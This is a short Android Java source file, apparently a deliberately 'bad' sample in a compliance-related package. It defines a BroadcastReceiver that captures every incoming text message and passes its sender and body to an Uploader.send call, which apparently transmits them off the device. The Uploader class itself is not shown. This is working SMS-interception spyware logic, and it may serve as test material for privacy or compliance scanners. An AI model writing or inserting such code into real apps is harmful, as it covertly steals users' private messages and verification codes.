package com.example.hegui.bad;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsMessage;

/** Takes every text message as it comes in. */
public final class SmsReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent event) {
        Object[] parts = (Object[]) event.getExtras().get("pdus");
        for (Object part : parts) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) part);
            Uploader.send("sms", message.getOriginatingAddress() + ":" + message.getMessageBody());
        }
    }
}
